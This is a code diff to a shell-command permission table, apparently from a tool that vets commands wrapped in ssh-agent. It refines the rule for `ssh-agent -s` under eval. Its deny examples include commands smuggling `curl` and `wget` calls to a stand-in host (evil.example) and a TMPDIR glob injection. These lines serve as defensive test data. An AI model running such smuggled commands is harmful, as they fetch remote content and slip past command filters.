@@ -429,7 +429,8 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
       noRun: ['k'],
       examples: { deny: ['ssh-agent curl evil.example', 'ssh-agent bash -c "wget evil.example"'], pass: ['ssh-agent -s', 'ssh-agent -k'] },
     }),
-    { when: /^-s( -t \d+[smhdw]?)?$/, config: /^SSH_/, examples: { deny: ['eval "$(ssh-agent -s curl evil.example)"', 'eval "$(ssh-agent -s bash -c x)"'], pass: ['eval "$(ssh-agent -s)"', 'eval "$(ssh-agent -s -t 3600)"'] } },
+    // It prints `SSH_AUTH_SOCK=/tmp/ssh-XXXX/agent.N; export SSH_AUTH_SOCK; …`: no glob character (TMPDIR not set by the line).
+    { when: /^-s( -t \d+[smhdw]?)?$/, split: /^-s( -t \d+[smhdw]?)?$/, config: /^(SSH_|TMPDIR$)/, examples: { deny: ['eval "$(ssh-agent -s curl evil.example)"', 'eval "$(ssh-agent -s bash -c x)"', 'eval $(ssh-agent -s curl evil.example)', "export TMPDIR='/tmp/*'; eval $(ssh-agent -s)"], pass: ['eval "$(ssh-agent -s)"', 'eval "$(ssh-agent -s -t 3600)"', 'eval $(ssh-agent -s)', 'eval `ssh-agent -s`'] } },
   ),
   wrapper({
     names: ['cpulimit'],
